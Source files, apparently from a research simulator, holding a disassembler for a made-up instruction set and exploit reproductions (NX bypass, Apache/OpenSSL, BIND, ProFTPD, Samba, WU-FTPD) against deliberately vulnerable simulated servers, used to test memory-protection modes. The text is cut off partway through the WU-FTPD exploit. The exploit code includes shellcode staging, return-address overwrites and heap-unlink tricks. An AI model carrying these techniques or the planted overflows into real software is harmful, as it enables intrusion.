  std::snprintf(buf, sizeof buf, "0x%x", v);
  return buf;
}

u32 imm_at(std::span<const u8> b, std::size_t off) {
  return static_cast<u32>(b[off]) | (static_cast<u32>(b[off + 1]) << 8) |
         (static_cast<u32>(b[off + 2]) << 16) |
         (static_cast<u32>(b[off + 3]) << 24);
}

std::string mem_operand(u8 base, u32 off) {
  if (off == 0) return "[" + reg_name(base) + "]";
  const auto soff = static_cast<arch::i32>(off);
  if (soff < 0) return "[" + reg_name(base) + "-" + hex(-soff) + "]";
  return "[" + reg_name(base) + "+" + hex(off) + "]";
}

std::string render(Op op, std::span<const u8> b) {
  switch (op) {
    case Op::kMovi:
      return "movi " + reg_name(b[1]) + ", " + hex(imm_at(b, 2));
    case Op::kAddi:
      return "addi " + reg_name(b[1]) + ", " + hex(imm_at(b, 2));
    case Op::kCmpi:
      return "cmpi " + reg_name(b[1]) + ", " + hex(imm_at(b, 2));
    case Op::kMov:
      return "mov " + reg_name(b[1]) + ", " + reg_name(b[2]);
    case Op::kAdd:
      return "add " + reg_name(b[1]) + ", " + reg_name(b[2]);
    case Op::kSub:
      return "sub " + reg_name(b[1]) + ", " + reg_name(b[2]);
    case Op::kMul:
      return "mul " + reg_name(b[1]) + ", " + reg_name(b[2]);
    case Op::kDiv:
      return "div " + reg_name(b[1]) + ", " + reg_name(b[2]);
    case Op::kModu:
      return "modu " + reg_name(b[1]) + ", " + reg_name(b[2]);
    case Op::kAnd:
      return "and " + reg_name(b[1]) + ", " + reg_name(b[2]);
    case Op::kOr:
      return "or " + reg_name(b[1]) + ", " + reg_name(b[2]);
    case Op::kXor:
      return "xor " + reg_name(b[1]) + ", " + reg_name(b[2]);
    case Op::kShl:
      return "shl " + reg_name(b[1]) + ", " + reg_name(b[2]);
    case Op::kShr:
      return "shr " + reg_name(b[1]) + ", " + reg_name(b[2]);
    case Op::kCmp:
      return "cmp " + reg_name(b[1]) + ", " + reg_name(b[2]);
    case Op::kNot:
      return "not " + reg_name(b[1]);
    case Op::kLoad:
      return "load " + reg_name(b[1]) + ", " + mem_operand(b[2], imm_at(b, 3));
    case Op::kLoadb:
      return "loadb " + reg_name(b[1]) + ", " +
             mem_operand(b[2], imm_at(b, 3));
    case Op::kStore:
      return "store " + mem_operand(b[1], imm_at(b, 3)) + ", " +
             reg_name(b[2]);
    case Op::kStoreb:
      return "storeb " + mem_operand(b[1], imm_at(b, 3)) + ", " +
             reg_name(b[2]);
    case Op::kJmp:
      return "jmp " + hex(imm_at(b, 1));
    case Op::kJz:
      return "jz " + hex(imm_at(b, 1));
    case Op::kJnz:
      return "jnz " + hex(imm_at(b, 1));
    case Op::kJlt:
      return "jlt " + hex(imm_at(b, 1));
    case Op::kJge:
      return "jge " + hex(imm_at(b, 1));
    case Op::kJb:
      return "jb " + hex(imm_at(b, 1));
    case Op::kJae:
      return "jae " + hex(imm_at(b, 1));
    case Op::kCall:
      return "call " + hex(imm_at(b, 1));
    case Op::kJmpr:
      return "jmpr " + reg_name(b[1]);
    case Op::kCallr:
      return "callr " + reg_name(b[1]);
    case Op::kPush:
      return "push " + reg_name(b[1]);
    case Op::kPop:
      return "pop " + reg_name(b[1]);
    case Op::kRet:
      return "ret";
    case Op::kSyscall:
      return "syscall";
    case Op::kNop:
      return "nop";
  }
  return "(bad)";
}

}  // namespace

std::vector<DisasmLine> disassemble(std::span<const u8> bytes, u32 base_addr,
                                    std::size_t max_instrs) {
  std::vector<DisasmLine> out;
  std::size_t pos = 0;
  while (pos < bytes.size() && out.size() < max_instrs) {
    DisasmLine line;
    line.addr = base_addr + static_cast<u32>(pos);
    const u8 opcode = bytes[pos];
    const u32 len = arch::instr_length(opcode);
    if (len == 0 || pos + len > bytes.size()) {
      line.bytes = {opcode};
      line.text = "(bad)";
      pos += 1;
    } else {
      const auto view = bytes.subspan(pos, len);
      line.bytes.assign(view.begin(), view.end());
      line.text = render(static_cast<Op>(opcode), view);
      pos += len;
    }
    out.push_back(std::move(line));
  }
  return out;
}

std::string format(const std::vector<DisasmLine>& lines) {
  std::string out;
  for (const DisasmLine& l : lines) {
    char head[32];
    std::snprintf(head, sizeof head, "%08x:  ", l.addr);
    out += head;
    std::string byte_col;
    for (u8 b : l.bytes) {
      char bb[8];
      std::snprintf(bb, sizeof bb, "%02x ", b);
      byte_col += bb;
    }
    byte_col.resize(24, ' ');
    out += byte_col;
    out += l.text;
    out += '\n';
  }
  return out;
}

}  // namespace sm::assembler
