// Disassembler for the simulated ISA.
//
// Used by the forensics response mode to render dumped shellcode (paper
// Fig. 5c) and by tests/debugging.
#pragma once

#include <span>
#include <string>
#include <vector>

#include "arch/types.h"

namespace sm::assembler {

using arch::u32;
using arch::u8;

struct DisasmLine {
  u32 addr = 0;
  std::vector<u8> bytes;
  std::string text;  // "movi r0, 0x5" or "(bad)" for invalid opcodes
};

// Disassembles up to max_instrs instructions from `bytes`, labelling the
// first byte with `base_addr`. Invalid opcodes consume one byte.
std::vector<DisasmLine> disassemble(std::span<const u8> bytes, u32 base_addr,
                                    std::size_t max_instrs = SIZE_MAX);

// One instruction per line, formatted like objdump.
std::string format(const std::vector<DisasmLine>& lines);

}  // namespace sm::assembler
