#include "attacks/nx_bypass.h"

#include <memory>

#include "attacks/shellcode.h"
#include "guest/guestlib.h"
#include "image/image.h"
#include "kernel/kernel.h"

namespace sm::attacks {

namespace {

// A plugin server: the STORE command caches plugin bytes; the legitimate
// LOAD path verifies a signature, then maps RWX memory and runs the plugin.
// The PING handler has a stack overflow; the exploit returns into
// lp_after_check, skipping the verification.
const char* kVictim = R"(
_start:
  movi r1, FD_NET
  movi r2, msg_banner
  call print_fd
srv_loop:
  movi r1, FD_NET
  movi r2, cmdbuf
  movi r3, 96
  call read_line
  cmpi r0, 0
  jz srv_quit
  movi r4, cmdbuf
  loadb r5, [r4]
  cmpi r5, 'S'            ; STORE: cache plugin bytes
  jz do_store
  cmpi r5, 'P'            ; PING <echo>: the vulnerable handler
  jz do_ping
  cmpi r5, 'Q'
  jz srv_quit
  jmp srv_loop
do_store:
  movi r1, FD_NET
  movi r2, plugin_cache
  movi r3, 512
  call read_n
  movi r1, FD_NET
  movi r2, msg_stored
  call print_fd
  jmp srv_loop
do_ping:
  call handle_ping
  jmp srv_loop
srv_quit:
  movi r0, SYS_EXIT
  movi r1, 0
  syscall

handle_ping:
  push fp
  mov fp, sp
  movi r2, 72
  sub sp, r2
  ; leak the frame for the exploit's known-offset playbook
  movi r1, FD_NET
  mov r2, fp
  call put_hex_fd
  movi r1, FD_NET
  movi r2, staging
  movi r3, 600
  call read_line
  mov r1, fp
  movi r2, 72
  sub r1, r2
  movi r2, staging
  call strcpy             ; stack overflow to the return address
  mov sp, fp
  pop fp
  ret

; The legitimate plugin loader. load_plugin is never called by the exploit;
; the exploit's corrupted return address lands on lp_after_check directly.
load_plugin:
  push fp
  mov fp, sp
  call verify_plugin
  cmpi r0, 1
  jnz lp_reject
  .space 16, 0x90         ; NOP pad so the exploit can pick a string-safe
lp_after_check:           ; entry address just before this label
  ; mmap(0, 4096, R|W|X): a fresh MIXED page
  movi r0, SYS_MMAP
  movi r1, 0
  movi r2, 4096
  movi r3, 7
  syscall
  mov r5, r0
  mov r1, r5
  movi r2, plugin_cache
  movi r3, 512
  call memcpy             ; copy the (unverified!) plugin into W+X memory
  callr r5                ; run it
lp_reject:
  mov sp, fp
  pop fp
  ret

verify_plugin:
  ; DigSig-style check stub: plugins from STORE are never signed, so the
  ; legitimate path would refuse them.
  movi r0, 0
  ret

.data
msg_banner: .asciz "plugin-server 1.0\n"
msg_stored: .asciz "plugin cached\n"
plugin_cache: .space 512
staging: .space 640
cmdbuf: .space 100
)";

}  // namespace

std::string nx_bypass_victim_source() { return kVictim; }

NxBypassResult run_nx_bypass(core::ProtectionMode mode) {
  NxBypassResult res;
  kernel::Kernel k;
  k.set_engine(core::make_engine(mode));
  const auto program = assembler::assemble(guest::program(kVictim));
  image::BuildOptions opts;
  opts.name = "plugin-server";
  k.register_image(image::build_image(program, opts));
  const kernel::Pid pid = k.spawn("plugin-server");
  auto chan = k.attach_channel(pid);
  k.run(5'000'000);
  chan->host_read_string();

  // Cache the "plugin" (the attacker's shellcode: plain data so far).
  std::vector<arch::u8> plugin(512, 0x90);
  const auto payload = spawn_shell_shellcode();
  std::copy(payload.begin(), payload.end(), plugin.begin() + 256);
  chan->host_write(std::string("STORE\n"));
  chan->host_write(plugin);
  k.run(5'000'000);
  chan->host_read_string();

  // PING overflow: return into lp_after_check, past the signature check.
  // The NOP pad before the label guarantees a NUL-free address nearby.
  const arch::u32 target =
      pick_string_safe_address(program.symbol("lp_after_check") - 17, 17);
  chan->host_write(std::string("PING\n"));
  k.run(5'000'000);
  chan->host_read_string();  // fp leak — unused: text addresses are static
  std::string overflow(76, 'A');  // buf[72] + saved fp, then the ret slot
  for (int i = 0; i < 4; ++i) {
    overflow.push_back(static_cast<char>(target >> (8 * i)));
  }
  overflow += "\n";
  chan->host_write(overflow);
  k.run(30'000'000);

  kernel::Process& p = *k.process(pid);
  res.shell_spawned = p.shell_spawned;
  res.detected = !k.detections().empty();
  res.victim_exit = p.exit_kind;
  res.detail = res.shell_spawned
                   ? "DEP bypass succeeded: shell from mmap'd W+X page"
                   : (res.detected ? "bypass foiled: W+X page was split"
                                   : "attack failed");
  return res;
}

}  // namespace sm::attacks
