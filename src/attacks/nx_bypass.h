// The execute-disable bypass the paper cites as its second motivation (§2,
// reference [4]): instead of executing injected code directly, the attacker
// hijacks control into EXISTING code that creates a fresh writable+
// executable mapping, copies the injected payload into it, and jumps there.
// DEP/NX never fires because every fetch comes from an executable page.
//
// Our victim is a plugin server whose legitimate code path mmap()s RWX
// memory and copies a plugin into it — after verifying the plugin's
// signature. The exploit returns into the instruction AFTER the check.
//
//   - HardwareNx:       the attack SUCCEEDS (the motivating gap)
//   - SplitAll / NxPlusSplitMixed: the fresh W+X page is memory-split, the
//     plugin bytes land in its data frame, and the jump fetches from the
//     empty code frame — the attack is foiled.
#pragma once

#include <string>

#include "core/split_engine.h"
#include "kernel/process.h"

namespace sm::attacks {

struct NxBypassResult {
  bool shell_spawned = false;
  bool detected = false;
  kernel::ExitKind victim_exit = kernel::ExitKind::kRunning;
  std::string detail;
};

NxBypassResult run_nx_bypass(core::ProtectionMode mode);

std::string nx_bypass_victim_source();

}  // namespace sm::attacks
