#include "attacks/realworld.h"

#include <algorithm>
#include <memory>
#include <stdexcept>

#include "attacks/shellcode.h"
#include "core/sebek.h"
#include "guest/guestlib.h"
#include "image/image.h"
#include "kernel/kernel.h"

namespace sm::attacks::realworld {

namespace {

using arch::u8;
using core::ProtectionMode;
using core::ResponseMode;
using kernel::Kernel;
using kernel::Pid;

// Chunk geometry of the guest allocator: payload-to-payload distance for
// consecutive allocations, and the offset of the next chunk's header.
constexpr u32 chunk_span(u32 payload) { return (payload + 19) & ~7u; }
static_assert(chunk_span(48) == 64);
static_assert(chunk_span(128) == 144);
static_assert(chunk_span(256) == 272);
static_assert(chunk_span(512) == 528);

struct Session {
  std::unique_ptr<Kernel> k;
  Pid pid = 0;
  std::shared_ptr<kernel::Channel> chan;
  std::unique_ptr<core::SebekLogger> sebek;
};

Session boot(const std::string& source, ProtectionMode mode,
             const AttackOptions& opts, u32 rng_seed = 0x5eed,
             bool stack_randomization = false) {
  Session s;
  kernel::KernelConfig cfg;
  cfg.rng_seed = rng_seed;
  cfg.stack_randomization = stack_randomization;
  s.k = std::make_unique<Kernel>(cfg);
  s.k->set_engine(core::make_engine(mode, opts.response));
  if (opts.attach_sebek) {
    s.sebek = std::make_unique<core::SebekLogger>();
    s.sebek->attach(*s.k);
  }
  const auto program = assembler::assemble(guest::program(source));
  image::BuildOptions bopts;
  bopts.name = "victim";
  s.k->register_image(image::build_image(program, bopts));
  s.pid = s.k->spawn("victim");
  s.chan = s.k->attach_channel(s.pid);
  return s;
}

// Extracts the next "0x%08x" leak from accumulated channel output.
u32 take_leak(std::string& buf, const Session& s) {
  buf += s.chan->host_read_string();
  const auto pos = buf.find("0x");
  if (pos == std::string::npos || buf.size() < pos + 10) {
    throw std::runtime_error("victim leak not found in: " + buf);
  }
  const u32 value =
      static_cast<u32>(std::stoul(buf.substr(pos + 2, 8), nullptr, 16));
  buf.erase(0, pos + 10);
  return value;
}

void append_le32(std::string& out, u32 v) {
  for (int i = 0; i < 4; ++i) out.push_back(static_cast<char>(v >> (8 * i)));
}

void finish(AttackResult& res, Session& s, const AttackOptions& opts) {
  kernel::Process& p = *s.k->process(s.pid);
  res.shell_spawned = p.shell_spawned;
  res.detected = !s.k->detections().empty();
  res.victim_exit = p.exit_kind;
  if (!s.k->detections().empty()) {
    res.forensic_dump = s.k->detections()[0].disassembly;
  }
  if (res.shell_spawned && !opts.shell_commands.empty()) {
    for (const std::string& cmd : opts.shell_commands) {
      s.chan->host_write(cmd + "\n");
      s.k->run(5'000'000);
      res.shell_transcript += s.chan->host_read_string();
    }
  }
  if (s.sebek) res.sebek_log = s.sebek->dump();
  if (res.shell_spawned) {
    res.detail = "shell spawned (uid=0)";
  } else if (res.detected) {
    res.detail = "injected code prevented from executing";
  } else {
    res.detail = "attack failed";
  }
}

// ---------------------------------------------------------------------------
// 1. Apache + OpenSSL: heap overflow into a session handler pointer.
// ---------------------------------------------------------------------------

const char* kApacheSource = R"(
_start:
  call malloc_init
  ; connection state, allocated in handshake order: the client-hello
  ; buffer, the master-key buffer, then the session struct whose first
  ; field is the completion handler.
  movi r1, 1024
  call malloc
  movi r4, reqbuf_ptr
  store [r4], r0
  movi r1, 48
  call malloc
  movi r4, keybuf_ptr
  store [r4], r0
  movi r1, 16
  call malloc
  movi r4, sess_ptr
  store [r4], r0
  movi r2, benign_handler
  store [r0], r2
  ; read the client hello (attacker-supplied blob, kept for the session)
  movi r1, FD_NET
  movi r4, reqbuf_ptr
  load r2, [r4]
  movi r3, 1024
  call read_n
  ; SERVER-HELLO: the info-leak — the "session id" exposes a heap pointer
  movi r1, FD_NET
  movi r2, msg_hello
  call print_fd
  movi r1, FD_NET
  movi r4, reqbuf_ptr
  load r2, [r4]
  call put_hex_fd
  ; CLIENT-MASTER-KEY: "a very large client master key" overflows keybuf
  movi r1, FD_NET
  movi r2, staging
  movi r3, 600
  call read_line
  movi r4, keybuf_ptr
  load r1, [r4]
  movi r2, staging
  call strcpy              ; heap overflow into sess->handler
  ; finish the handshake through the session handler
  movi r4, sess_ptr
  load r4, [r4]
  load r2, [r4]
  callr r2
  movi r1, FD_NET
  movi r2, msg_done
  call print_fd
  movi r0, SYS_EXIT
  movi r1, 0
  syscall
benign_handler:
  ret
.data
msg_hello: .asciz "SSL-SERVER-HELLO session="
msg_done:  .asciz "handshake complete\n"
reqbuf_ptr: .word 0
keybuf_ptr: .word 0
sess_ptr:   .word 0
staging: .space 640
)";

AttackResult attack_apache(ProtectionMode mode, const AttackOptions& opts) {
  AttackResult res;
  res.exploit = Exploit::kApacheOpenSsl;
  Session s = boot(kApacheSource, mode, opts);

  // Client hello: NOP sled + shellcode, like the recorded openssl-too-open
  // handshake blob.
  std::vector<u8> hello(1024, 0);
  ShellcodeBuilder sc;
  sc.nop_sled(600).raw(spawn_shell_shellcode());
  const auto blob = sc.build();
  std::copy(blob.begin(), blob.end(), hello.begin());
  s.chan->host_write(hello);
  s.k->run(10'000'000);

  std::string net;
  const u32 reqbuf = take_leak(net, s);
  res.vulnerability_triggered = true;

  // Master key: filler to the handler pointer, then the sled address.
  const u32 target = pick_string_safe_address(reqbuf, 592);
  std::string key(chunk_span(48), 'A');
  append_le32(key, target);
  key += "\n";
  s.chan->host_write(key);
  s.k->run(20'000'000);

  finish(res, s, opts);
  return res;
}

// ---------------------------------------------------------------------------
// 2. Bind TSIG: stack overflow with an information-leak reply.
// ---------------------------------------------------------------------------

const char* kBindSource = R"(
_start:
  call handle_query
  movi r0, SYS_EXIT
  movi r1, 0
  syscall
handle_query:
  push fp
  mov fp, sp
  movi r2, 1104
  sub sp, r2
  ; qbuf at fp-1104 (1024 bytes), the TSIG scratch buffer at fp-76
  ; read the DNS query (binary) onto the stack
  movi r1, FD_NET
  mov r2, fp
  movi r3, 1104
  sub r2, r3
  movi r3, 1024
  call read_n
  ; the leak: a malformed-query error reply carries a stack address
  movi r1, FD_NET
  movi r2, msg_fmterr
  call print_fd
  movi r1, FD_NET
  mov r2, fp
  movi r3, 1104
  sub r2, r3
  call put_hex_fd
  ; parse the transaction signature into a fixed stack buffer
  movi r1, FD_NET
  movi r2, staging
  movi r3, 600
  call read_line
  mov r1, fp
  movi r2, 76
  sub r1, r2
  movi r2, staging
  call strcpy            ; smashes the saved fp and return address
  mov sp, fp
  pop fp
  ret
.data
msg_fmterr: .asciz "FORMERR id="
staging: .space 640
)";

AttackResult attack_bind(ProtectionMode mode, const AttackOptions& opts) {
  AttackResult res;
  res.exploit = Exploit::kBindTsig;
  Session s = boot(kBindSource, mode, opts);

  std::vector<u8> query(1024, 0);
  ShellcodeBuilder sc;
  sc.nop_sled(600).raw(spawn_shell_shellcode());
  const auto blob = sc.build();
  std::copy(blob.begin(), blob.end(), query.begin());
  s.chan->host_write(query);
  s.k->run(10'000'000);

  std::string net;
  const u32 qbuf = take_leak(net, s);
  res.vulnerability_triggered = true;

  const u32 target = pick_string_safe_address(qbuf, 592);
  std::string tsig(80, 'A');  // 72-byte frame + saved fp + return address
  append_le32(tsig, target);
  tsig += "\n";
  s.chan->host_write(tsig);
  s.k->run(20'000'000);

  finish(res, s, opts);
  return res;
}

// ---------------------------------------------------------------------------
// 3. ProFTPD: ASCII-mode newline translation overflows the transfer buffer.
// ---------------------------------------------------------------------------

const char* kProftpdSource = R"(
_start:
  call malloc_init
  movi r1, 1024
  call malloc
  movi r4, filebuf_ptr
  store [r4], r0
  movi r1, 256
  call malloc
  movi r4, xferbuf_ptr
  store [r4], r0
  movi r1, 16
  call malloc
  movi r4, sess_ptr
  store [r4], r0
  movi r2, benign_cb
  store [r0], r2
  movi r1, FD_NET
  movi r2, msg_banner
  call print_fd
cmd_loop:
  movi r1, FD_NET
  movi r2, cmdbuf
  movi r3, 128
  call read_line
  cmpi r0, 0
  jz do_quit
  movi r4, cmdbuf
  loadb r5, [r4]
  cmpi r5, 'U'
  jz do_user
  cmpi r5, 'T'
  jz do_type
  cmpi r5, 'S'
  jz do_stor
  cmpi r5, 'R'
  jz do_retr
  cmpi r5, 'Q'
  jz do_quit
  movi r1, FD_NET
  movi r2, msg_500
  call print_fd
  jmp cmd_loop
do_user:
  movi r1, FD_NET
  movi r2, msg_230
  call print_fd
  jmp cmd_loop
do_type:
  movi r4, ascii_mode
  movi r5, 1
  store [r4], r5
  movi r1, FD_NET
  movi r2, msg_200
  call print_fd
  jmp cmd_loop
do_stor:
  ; upload a 256-byte file into the file cache
  movi r1, FD_NET
  movi r4, filebuf_ptr
  load r2, [r4]
  movi r3, 256
  call read_n
  movi r1, FD_NET
  movi r2, msg_226s
  call print_fd
  movi r1, FD_NET
  movi r4, filebuf_ptr
  load r2, [r4]
  call put_hex_fd
  jmp cmd_loop
do_retr:
  movi r4, filebuf_ptr
  load r1, [r4]          ; src
  movi r4, xferbuf_ptr
  load r2, [r4]          ; dst
  movi r3, 256
  movi r4, ascii_mode
  load r4, [r4]
  cmpi r4, 1
  jz retr_ascii
  ; binary mode: bounded copy (memcpy(dst, src, 256))
  mov r5, r1
  mov r1, r2
  mov r2, r5
  call memcpy
  jmp retr_done
retr_ascii:
  ; THE BUG: \n -> \r\n expansion with no bounds check on the output.
ascii_loop:
  cmpi r3, 0
  jz retr_done
  loadb r5, [r1]
  cmpi r5, 10
  jnz ascii_plain
  movi r5, 13
  storeb [r2], r5
  addi r2, 1
  movi r5, 10
ascii_plain:
  storeb [r2], r5
  addi r1, 1
  addi r2, 1
  addi r3, -1
  jmp ascii_loop
retr_done:
  movi r1, FD_NET
  movi r2, msg_226
  call print_fd
  ; post-transfer hook through the session callback
  movi r4, sess_ptr
  load r4, [r4]
  load r2, [r4]
  callr r2
  jmp cmd_loop
do_quit:
  movi r0, SYS_EXIT
  movi r1, 0
  syscall
benign_cb:
  ret
.data
msg_banner: .asciz "220 ProFTPD 1.2.7 Server ready.\n"
msg_230: .asciz "230 Anonymous access granted.\n"
msg_200: .asciz "200 Type set to A.\n"
msg_226s: .asciz "226 Transfer complete (stored). id="
msg_226: .asciz "226 Transfer complete.\n"
msg_500: .asciz "500 Command not understood.\n"
filebuf_ptr: .word 0
xferbuf_ptr: .word 0
sess_ptr: .word 0
ascii_mode: .word 0
cmdbuf: .space 132
)";

AttackResult attack_proftpd(ProtectionMode mode, const AttackOptions& opts) {
  AttackResult res;
  res.exploit = Exploit::kProftpd;
  Session s = boot(kProftpdSource, mode, opts);
  s.k->run(5'000'000);
  s.chan->host_read_string();  // banner

  s.chan->host_write(std::string("USER anonymous\n"));
  s.k->run(5'000'000);

  // The uploaded "file": 20 newlines (each grows by one byte during ASCII
  // translation), shellcode + sled in the middle, the callback target last.
  // Translated length 276 puts the last 4 bytes exactly over the session
  // callback at xferbuf + 272.
  std::vector<u8> file;
  file.insert(file.end(), 20, '\n');
  ShellcodeBuilder sc;
  const auto payload = spawn_shell_shellcode();
  sc.nop_sled(232 - payload.size()).raw(payload);
  const auto mid = sc.build();
  file.insert(file.end(), mid.begin(), mid.end());
  // Placeholder target until we learn the file buffer address.
  file.insert(file.end(), 4, 0);

  s.chan->host_write(std::string("STOR exploit.txt\n"));
  s.chan->host_write(std::span<const u8>(file.data(), file.size()));
  s.k->run(10'000'000);
  std::string net;
  const u32 filebuf = take_leak(net, s);
  res.vulnerability_triggered = true;

  // Re-upload with the real target (points into the sled, which starts at
  // file offset 20). The target travels as binary file data, so only the
  // ASCII-translation bytes (\n, \r) must be avoided.
  const u32 target = pick_ascii_safe_address(filebuf + 24, 160);
  for (int i = 0; i < 4; ++i) {
    file[252 + i] = static_cast<u8>(target >> (8 * i));
  }
  s.chan->host_write(std::string("STOR exploit.txt\n"));
  s.chan->host_write(std::span<const u8>(file.data(), file.size()));
  s.k->run(10'000'000);
  s.chan->host_read_string();

  s.chan->host_write(std::string("TYPE A\n"));
  s.k->run(5'000'000);
  s.chan->host_write(std::string("RETR exploit.txt\n"));
  s.k->run(20'000'000);

  finish(res, s, opts);
  return res;
}

// ---------------------------------------------------------------------------
// 4. Samba call_trans2open: brute-forced stack overflow vs randomization.
// ---------------------------------------------------------------------------

std::string samba_source(bool leak_for_calibration) {
  std::string src = R"(
_start:
  call handle_trans2
  movi r0, SYS_EXIT
  movi r1, 1
  syscall
handle_trans2:
  push fp
  mov fp, sp
  movi r2, 2128
  sub sp, r2
  ; the request data lands on the stack: qbuf at fp-2128 (2048 bytes)
  movi r1, FD_NET
  mov r2, fp
  movi r3, 2128
  sub r2, r3
  movi r3, 2048
  call read_n
)";
  if (leak_for_calibration) {
    src += R"(
  ; calibration build only: "manual analysis of a similar vulnerable
  ; system" (paper §6.1.2) — expose the buffer address
  movi r1, FD_NET
  mov r2, fp
  movi r3, 2128
  sub r2, r3
  call put_hex_fd
)";
  }
  src += R"(
  ; the trans2open parameter block is copied into a fixed stack buffer
  movi r1, FD_NET
  movi r2, staging
  movi r3, 600
  call read_line
  mov r1, fp
  movi r2, 76
  sub r1, r2
  movi r2, staging
  call strcpy
  mov sp, fp
  pop fp
  ret
.data
staging: .space 640
)";
  return src;
}

AttackResult attack_samba(ProtectionMode mode, const AttackOptions& opts) {
  AttackResult res;
  res.exploit = Exploit::kSamba;

  // Calibration pass on a "similar system" without randomization.
  u32 base = 0;
  {
    AttackOptions calib_opts;
    Session c = boot(samba_source(true), ProtectionMode::kNone, calib_opts,
                     /*rng_seed=*/1, /*stack_randomization=*/false);
    c.chan->host_write(std::vector<u8>(2048, 0x90));
    c.k->run(10'000'000);
    std::string net;
    base = take_leak(net, c);
  }

  constexpr u32 kSled = 1900;
  std::vector<u8> request(2048, 0);
  ShellcodeBuilder sc;
  sc.nop_sled(kSled).raw(spawn_shell_shellcode());
  const auto blob = sc.build();
  std::copy(blob.begin(), blob.end(), request.begin());

  for (int attempt = 1; attempt <= opts.max_attempts; ++attempt) {
    res.attempts = attempt;
    Session s = boot(samba_source(false), mode, opts,
                     /*rng_seed=*/0x5eed + attempt * 7919,
                     /*stack_randomization=*/true);
    s.chan->host_write(request);
    s.k->run(5'000'000);
    res.vulnerability_triggered = true;

    // Guess grid: randomization subtracts up to 8 KiB from the calibrated
    // base, so walk guesses downward in sled-sized steps.
    const u32 step = 1800;
    const u32 raw_guess = base - ((attempt - 1) % 5) * step + 64;
    const u32 guess = pick_string_safe_address(raw_guess, 64);

    std::string overflow(80, 'A');
    append_le32(overflow, guess);
    overflow += "\n";
    s.chan->host_write(overflow);
    s.k->run(20'000'000);

    kernel::Process& p = *s.k->process(s.pid);
    if (p.shell_spawned || !s.k->detections().empty()) {
      finish(res, s, opts);
      return res;
    }
    // Wrong guess: the daemon crashed; "respawn" and try again.
  }
  res.detail = "brute force exhausted";
  res.victim_exit = kernel::ExitKind::kKilledSigsegv;
  return res;
}

// ---------------------------------------------------------------------------
// 5. WU-FTPD: free() of a corrupted chunk -> unlink write-what-where,
//    with two-stage shellcode.
// ---------------------------------------------------------------------------

const char* kWuftpdSource = R"(
_start:
  call malloc_init
  movi r1, FD_NET
  movi r2, msg_banner
  call print_fd
wu_loop:
  movi r1, FD_NET
  movi r2, cmdbuf
  movi r3, 128
  call read_line
  cmpi r0, 0
  jz wu_quit
  movi r4, cmdbuf
  loadb r5, [r4]
  cmpi r5, 'U'
  jz wu_user
  cmpi r5, 'P'
  jz wu_pass
  cmpi r5, 'C'
  jz wu_glob
  cmpi r5, 'Q'
  jz wu_quit
  movi r1, FD_NET
  movi r2, msg_500
  call print_fd
  jmp wu_loop
wu_user:
  movi r1, FD_NET
  movi r2, msg_331
  call print_fd
  jmp wu_loop
wu_pass:
  movi r1, FD_NET
  movi r2, msg_230
  call print_fd
  jmp wu_loop
wu_glob:
  call handle_glob
  jmp wu_loop
wu_quit:
  movi r0, SYS_EXIT
  movi r1, 0
  syscall

; CWD ~{...} — filename globbing with attacker-controlled heap chunks.
handle_glob:
  push fp
  mov fp, sp
  movi r1, 512
  call malloc
  movi r4, pattern_ptr
  store [r4], r0
  movi r1, 128
  call malloc
  movi r4, tmp_ptr
  store [r4], r0
  ; more per-session state sits right after tmp - its chunk header is what
  ; the overflow forges into a fake "free" chunk
  movi r1, 64
  call malloc
  ; 7350wurm knew the daemon's heap/stack layout per distribution build;
  ; these replies stand in for its hardcoded offsets.
  movi r1, FD_NET
  movi r4, pattern_ptr
  load r2, [r4]
  call put_hex_fd
  movi r1, FD_NET
  mov r2, fp
  call put_hex_fd
  ; the glob pattern (binary-tolerant FTP argument)
  movi r1, FD_NET
  movi r4, pattern_ptr
  load r2, [r4]
  movi r3, 512
  call read_n
  ; THE BUG: 160 bytes of parsed pattern state into a 128-byte chunk
  movi r1, FD_NET
  movi r2, staging
  movi r3, 160
  call read_n
  movi r4, tmp_ptr
  load r1, [r4]
  movi r2, staging
  movi r3, 160
  call memcpy
  ; free the attacker-controlled memory: unlink() fires
  movi r4, tmp_ptr
  load r1, [r4]
  call free
  movi r1, FD_NET
  movi r2, msg_250
  call print_fd
  mov sp, fp
  pop fp
  ret                    ; return address was redirected by unlink()

.data
msg_banner: .asciz "220 wu-ftpd 2.6.1 FTP server ready.\n"
msg_331: .asciz "331 Password required.\n"
msg_230: .asciz "230 User logged in.\n"
msg_250: .asciz "250 CWD command successful.\n"
msg_500: .asciz "500 Unknown command.\n"
pattern_ptr: .word 0
tmp_ptr: .word 0
staging: .space 192
cmdbuf: .space 132
)";

AttackResult attack_wuftpd(ProtectionMode mode, const AttackOptions& opts) {
  AttackResult res;
  res.exploit = Exploit::kWuFtpd;
  Session s = boot(kWuftpdSource, mode, opts);
  s.k->run(5'000'000);
  s.chan->host_read_string();

  s.chan->host_write(std::string("USER ftp\n"));
  s.k->run(5'000'000);
  s.chan->host_write(std::string("PASS mozilla@\n"));
  s.k->run(5'000'000);
  s.chan->host_read_string();

  s.chan->host_write(std::string("CWD ~{\n"));
  s.k->run(5'000'000);
  std::string net;
  const u32 pattern = take_leak(net, s);
  const u32 glob_fp = take_leak(net, s);
  res.vulnerability_triggered = true;

  // Stage 1 at the start of the pattern buffer (the glob argument is read
  // with a binary-tolerant read, so its address has no byte constraints).
  // The layout absorbs unlink's reciprocal write (*(fd+8) = bk) in a CMPI
  // immediate: [6x nop][cmpi r0, <clobbered by bk>][stage-1 payload]
  const u32 sc_addr = pattern;
  const u32 sc_off = 0;
  const u32 stage2_addr = pattern + 256;
  const u32 marker_addr = pattern + 504;

  ShellcodeBuilder stage1;
  stage1.nop_sled(6).cmpi(0, 0);
  // Signal the attacker with the 4-byte marker, then pull stage 2.
  stage1.movi(0, kernel::kSysWrite)
      .movi(1, kernel::kFdNet)
      .movi(2, marker_addr)
      .movi(3, 4)
      .syscall();
  stage1.movi(0, kernel::kSysRead)
      .movi(1, kernel::kFdNet)
      .movi(2, stage2_addr)
      .movi(3, 512)
      .syscall();
  stage1.movi(5, stage2_addr);
  stage1.raw(std::vector<u8>{0x27, 5});  // jmpr r5

  std::vector<u8> glob_pattern(512, 0x90);
  const auto s1 = stage1.build();
  std::copy(s1.begin(), s1.end(), glob_pattern.begin() + sc_off);
  const char marker[4] = {'w', '0', '0', 't'};
  std::copy(marker, marker + 4, glob_pattern.begin() + (marker_addr - pattern));
  s.chan->host_write(glob_pattern);

  // The overflow: filler to the next-chunk header, then the fake header
  // [size][fd][bk]. free(tmp) unlinks the fake chunk:
  //   *(fd+8) = bk  -> clobbers the CMPI immediate inside stage 1
